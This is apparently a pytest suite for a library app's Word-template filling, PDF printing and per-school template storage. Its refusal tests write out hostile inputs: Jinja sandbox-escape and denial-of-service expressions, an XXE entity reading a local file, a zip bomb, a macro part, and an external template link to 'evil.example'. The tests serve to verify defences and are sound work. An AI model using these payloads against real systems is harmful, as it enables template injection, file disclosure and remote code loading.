"""A template is filled, printed, checked before it is taken, and can be undone."""

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.shared import Mm, Pt
from flask import Flask
from pypdfium2 import PdfDocument

from library.documents import checking, filling, plain, printing, stored
from library.documents.filling import BadTemplate, Square
from library.mobile import papers as mobile_papers
from library.promotion import gift_papers
from library.reports import paper_kinds
from library.rotation import papers as rotation_papers
from library.shelves import papers
from tests.support.people import account, sign_in
from tests.support.world import World

SHIPPED = sorted(
    path
    for package in (papers, rotation_papers, mobile_papers, gift_papers, paper_kinds)
    for path in package.FOLDER.glob("*.docx")
)


def word(*lines: str, table: list[list[str]] | None = None) -> bytes:
    """A small DOCX as somebody writes it."""
    document, out = Document(), io.BytesIO()
    for line in lines:
        document.add_paragraph(line)
    for row in table or []:
        cells = document.add_table(rows=1, cols=len(row)).rows[0].cells
        for cell, text in zip(cells, row, strict=True):
            cell.text = text
    document.save(out)
    return out.getvalue()


def words_of(docx: bytes) -> str:
    return "\n".join(line.text for line in Document(io.BytesIO(docx)).paragraphs)


def text_of(pdf: bytes) -> list[str]:
    """By page."""
    return [page.get_textpage().get_text_range() for page in PdfDocument(pdf)]


def changed(docx: bytes, name: str, data: bytes) -> bytes:
    """The same package with one part more, or another one in its place."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, data)
    return out.getvalue()


def refused(template: bytes, values: dict[str, Any] | None = None) -> str:
    """The code of the reason."""
    with pytest.raises(BadTemplate) as bad:
        checking.check(template, values or {"name": "Lan"})
    return bad.value.reasons[0].code


# Filling


def test_marks_are_filled_and_what_looks_like_markup_stays_text() -> None:
    docx = filling.filled(word("Tên: {{ name }}"), {"name": "Lan <b>& Hoa</b> {{ name }}"})
    assert words_of(docx) == "Tên: Lan <b>& Hoa</b> {{ name }}"


@pytest.mark.parametrize("path", SHIPPED, ids=lambda path: path.stem)
def test_every_shipped_template_is_whole(path: Path) -> None:
    (kind,) = (one for one in stored.KINDS.values() if one.shipped == path)
    docx = checking.check(path.read_bytes(), kind.sample())
    assert "{{" not in words_of(docx)
    assert set(kind.sample()) == set(kind.means), "every value is explained"
    assert text_of(printing.pdf(docx, kind.title))[0].strip()


def test_a_diary_is_one_sheet_of_paper() -> None:
    kind = stored.kind("diary")
    assert len(text_of(printing.pdf(filling.filled(kind.shipped.read_bytes(), kind.sample()), "x"))) == 1


def test_every_kind_has_its_file_and_every_file_its_kind() -> None:
    assert {one.shipped for one in stored.KINDS.values()} == set(SHIPPED)


# What is refused


def test_a_name_nobody_fills_is_named() -> None:
    with pytest.raises(BadTemplate) as bad:
        checking.check(word("{{ nguoi_nhan }}"), {"name": "Lan"})
    assert bad.value.reasons[0].facts == {"name": "nguoi_nhan"}


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("{{ name ", "template-broken"),
        ("{% for one in name %}x", "template-broken"),
        ("{{ name.__class__.__mro__ }}", "template-forbidden"),
        ("{{ ''.__class__ }}", "template-forbidden"),
        ("{{ name * 999999999 }}", "template-forbidden"),
        ("{{ 9 ** 99999999 }}", "template-forbidden"),
        ("{% for one in range(10) %}x{% endfor %}", "template-forbidden"),
        ("{{ cycler }}", "template-unknown"),
        ("{{ name.nothing }}", "template-unknown"),
        ("{{ name / 0 }}", "template-forbidden"),
        ("{{ 'a'.ljust(999999999) }}", "template-forbidden"),
        ("{{ name|center(999999999) }}", "template-forbidden"),
        ("{{ '%999999999d' % 5 }}", "template-forbidden"),
        ("{{ name % 5 }}", "template-forbidden"),
        ("{{ '{:999999999}'.format(5) }}", "template-forbidden"),
        ("{{ name ~ name }}", "template-forbidden"),
        ("{{ name + name }}", "template-forbidden"),
        ("{% set a %}{{ name }}{{ name }}{% endset %}{{ a }}", "template-forbidden"),
        ("{% set a = [name, name] %}{{ a }}", "template-forbidden"),
        ("{% macro a() %}x{% endmacro %}{{ a() }}", "template-forbidden"),
        ("{% for a in name recursive %}x{% endfor %}", "template-forbidden"),
        (f"{'{% for a in name %}' * 3}x{'{% endfor %}' * 3}", "template-forbidden"),
        ("{% for a in name %}x{% endfor %}" * (plain.MOST_LOOPS + 1), "template-forbidden"),
    ],
)
def test_a_template_can_neither_break_out_nor_hang(text: str, code: str) -> None:
    assert refused(word(text)) == code


def test_a_paper_that_never_ends_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plain, "MOST_WRITTEN", 100_000)
    loops = "{% for a in rows %}{% for b in rows %}{{ a }}{% endfor %}{% endfor %}"
    assert refused(word(loops), {"rows": ["x" * 30] * 100}) == "template-too-long"


def test_what_papers_need_can_still_be_said() -> None:
    text = "{% for a in rows if a %}{{ loop.index + 1 }} {{ a.name|upper if a.name is defined else '-' }};{% endfor %}"
    assert words_of(checking.check(word(text), {"rows": [{"name": "Lan"}, {}]})) == "2 LAN;"


def shown(picture: bytes, **size: Any) -> bytes:
    document, out = Document(), io.BytesIO()
    document.add_picture(io.BytesIO(picture), **size)
    document.save(out)
    return out.getvalue()


def test_what_cannot_be_printed_is_no_template() -> None:
    square = Square(("101", "010", "101")).png()
    tall = shown(square, width=Mm(50), height=Mm(900))
    assert refused(tall) == "template-unprintable"
    document = Document(io.BytesIO(shown(square, width=Mm(20))))
    name = next(part.partname for part in document.part.package.iter_parts() if "media" in part.partname)
    assert refused(changed(shown(square, width=Mm(20)), name.lstrip("/"), b"\x01\0\0\0 EMF")) == "template-unprintable"
    assert refused(word("{{ name }}", table=[["dòng\n" * 90]])) == "template-unprintable"


@pytest.mark.parametrize("data", [b"", b"Nhan de;So luong\n", b"PK\x03\x04" + b"\0" * 40, b"%PDF-1.4"])
def test_what_is_no_word_file_is_said_so(data: bytes) -> None:
    assert refused(data) == "template-unreadable"


def test_a_zip_that_is_no_word_file_is_said_so() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("a.txt", "a")
    assert refused(out.getvalue()) == "template-unreadable"


@pytest.mark.parametrize(
    ("at", "value"), [(6, 1), (8, 99)], ids=["locked by a password", "packed by a method nobody knows"]
)
def test_a_package_that_cannot_be_opened_is_said_so(at: int, value: int) -> None:
    data = bytearray(word("{{ name }}"))
    for head, shift in ((b"PK\x03\x04", 0), (b"PK\x01\x02", 2)):
        start = data.find(head)
        while start >= 0:
            data[start + at + shift] = value
            start = data.find(head, start + 1)
    assert refused(bytes(data)) == "template-unreadable"


def test_a_small_file_that_unpacks_to_much_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * (checking.MOST_UNPACKED + 1))
    assert len(out.getvalue()) < 100_000
    assert refused(out.getvalue()) == "template-too-large"


def test_macros_and_files_from_elsewhere_are_refused() -> None:
    whole = word("{{ name }}")
    assert refused(changed(whole, "word/vbaProject.bin", b"x")) == "template-macros"
    out = (
        b'<Relationships><Relationship Id="r" Type="%s" Target="http://x.vn/a" TargetMode="External"/></Relationships>'
    )
    assert refused(changed(whole, "word/_rels/footnotes.xml.rels", out % b"image")) == "template-points-out"
    link = changed(whole, "word/_rels/footnotes.xml.rels", out % b"http://x/hyperlink")
    assert words_of(checking.check(link, {"name": "Lan"})) == "Lan"
    outside = 'Type="a/attachedTemplate" Target="http://evil.example/hyperlink.dotm" TargetMode="External"'
    for hidden in (
        f"<Relationships><Relationship {outside}/></Relationships>".encode(),
        f'<x:Relationships xmlns:x="r"><x:Relationship {outside}/></x:Relationships>'.encode(),
        f'<?xml version="1.0" encoding="UTF-16"?><r><Relationship {outside}/></r>'.encode("utf-16"),
    ):
        assert refused(changed(whole, "word/_rels/settings.xml.rels", hidden)) == "template-points-out"
    named = b'<!DOCTYPE r [<!ENTITY e "External">]><r><Relationship TargetMode="&e;" Target="x" Type="image"/></r>'
    assert refused(changed(whole, "word/_rels/settings.xml.rels", named)) == "template-unreadable"
    assert refused(changed(whole, "word/_rels/settings.xml.rels", b"<Relationships")) == "template-unreadable"


def test_xml_that_reads_files_reads_none(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("bí mật của máy")
    whole = word("{{ name }}")
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        body = package.read("word/document.xml").decode()
    head, _, rest = body.partition("?>")
    entity = f'{head}?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>{rest.replace("{{ name }}", "&x;{{ name }}")}'
    try:
        told = words_of(checking.check(changed(whole, "word/document.xml", entity.encode()), {"name": "Lan"}))
    except BadTemplate:
        told = ""
    assert "bí mật" not in told


# Printing


def test_a_long_list_goes_over_pages_with_its_head_and_numbers() -> None:
    rows = [{**row, "number": at} for at in range(1, 121) for row in papers.sample_handover()["rows"][:1]]
    values = {**papers.sample_handover(), "rows": rows, "lines": len(rows)}
    pages = text_of(printing.pdf(filling.filled(stored.kind("handover").shipped.read_bytes(), values), "x"))
    assert 2 < len(pages) < 5
    assert all("Tên sách" in page for page in pages[:-1])
    assert [page.split()[0] for page in pages[1:]] == [str(at) for at in range(2, len(pages) + 1)]
    assert not pages[0].lstrip().startswith("1 ")


def test_letters_the_face_lacks_do_not_become_boxes() -> None:
    assert printing.printable("Đặng Ŋ Thị 漢 Ệ") == "Đặng Ŋ Thị  Ệ"
    assert printing.printable("Nguye\u0302\u0303n") == "Nguyễn"


def test_paper_is_as_large_as_the_template_says() -> None:
    document, out = Document(), io.BytesIO()
    document.sections[0].page_width, document.sections[0].page_height = Mm(148), Mm(210)
    document.add_paragraph("A5")
    document.save(out)
    page = PdfDocument(printing.pdf(out.getvalue(), "x"))[0]
    assert [round(side / 72 * 25.4) for side in page.get_size()] == [148, 210]


def test_merged_cells_pictures_and_an_empty_paper_are_printed() -> None:
    document, out = Document(), io.BytesIO()
    table = document.add_table(rows=2, cols=3)
    table.cell(0, 0).merge(table.cell(0, 2)).text = "Một ô rộng"
    table.cell(1, 1).text = "giữa"
    document.add_picture(io.BytesIO(Square(("101", "010", "101")).png()), width=Mm(400))
    document.add_paragraph().add_run("cuối").font.size = Pt(40)
    document.save(out)
    assert "Một ô rộng" in text_of(printing.pdf(out.getvalue(), "x"))[0]
    empty = io.BytesIO()
    Document().save(empty)
    assert len(text_of(printing.pdf(empty.getvalue(), "x"))) == 1


# Kept by a library


@pytest.mark.both
def test_a_library_edits_its_template_and_gives_it_up_again(app: Flask, world: World) -> None:
    account(world)
    ha = sign_in(app)
    assert "mẫu của máy" in ha.get("/settings/documents").get_data(as_text=True)
    mine = word("Biên bản của trường, giao bởi {{ given_name }}")
    answer = ha.post("/settings/documents", data={"name": "handover", "template": (io.BytesIO(mine), "m.docx")})
    assert answer.status_code == 303
    assert "mẫu của thư viện" in ha.get("/settings/documents").get_data(as_text=True)
    assert ha.get("/settings/documents/template.docx?name=handover").data == mine
    assert "giao bởi Nguyễn Thị Thu" in text_of(ha.get("/settings/documents/sample?name=handover").data)[0]
    shipped = ha.get("/settings/documents/template.docx?name=handover&shipped=1").data
    assert shipped == stored.kind("handover").shipped.read_bytes()
    assert ha.post("/settings/documents/back", data={"name": "handover"}).status_code == 303
    assert ha.get("/settings/documents/template.docx?name=handover").data == shipped


@pytest.mark.both
def test_a_broken_template_is_refused_and_the_one_in_use_stays(app: Flask, world: World) -> None:
    account(world)
    ha = sign_in(app)
    bad = {"name": "handover", "template": (io.BytesIO(word("{{ nguoi_nhan }}")), "m.docx")}
    answer = ha.post("/settings/documents", data=bad)
    assert answer.status_code == 422
    assert "“nguoi_nhan”" in answer.get_data(as_text=True)
    assert "Chưa chọn tệp nào" in ha.post("/settings/documents", data={"name": "owners"}).get_data(as_text=True)
    assert "mẫu của thư viện" not in ha.get("/settings/documents").get_data(as_text=True)
    assert ha.get("/settings/documents/sample?name=nothing").status_code == 404


def test_a_template_is_tried_once_and_what_was_tried_is_kept(
    app: Flask, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    account(world)
    tried: list[bytes] = []
    check = checking.check
    monkeypatch.setattr(checking, "check", lambda data, sample: tried.append(data) or check(data, sample))
    ha, mine = sign_in(app), word("Của Xuất Hóa")
    ha.post("/settings/documents", data={"name": "handover", "template": (io.BytesIO(mine), "m.docx")})
    assert tried == [mine]
    assert ha.get("/settings/documents/template.docx?name=handover").data == mine


def test_a_template_that_cannot_be_printed_shows_the_way_to_the_word_file(app: Flask, world: World) -> None:
    account(world)
    ha, tall = sign_in(app), shown(Square(("1",)).png(), width=Mm(50), height=Mm(900))
    session = world.session()
    stored.put(session, world.school().id, stored.Checked("handover", tall), None)  # kept before it was tried so
    session.commit()
    answer = ha.get("/settings/documents/sample?name=handover")
    assert answer.status_code == 422
    assert "tải bản Word (.docx)" in answer.text
    assert ha.get("/settings/documents/sample?name=handover&as=docx").status_code == 200


@pytest.mark.both
def test_the_next_school_keeps_its_own(app: Flask, world: World) -> None:
    account(world)
    account(world, "mai", library=world.school("Trường Tiểu học Sông Cầu"))
    ha, mai = sign_in(app), sign_in(app, "mai")
    mine = word("Của Xuất Hóa {{ given_name }}")
    ha.post("/settings/documents", data={"name": "handover", "template": (io.BytesIO(mine), "m.docx")})
    assert mai.get("/settings/documents/template.docx?name=handover").data != mine
    mai.post("/settings/documents", data={"name": "handover", "template": (io.BytesIO(mine), "m.docx")})
    ha.post("/settings/documents/back", data={"name": "handover"})
    assert mai.get("/settings/documents/template.docx?name=handover").data == mine
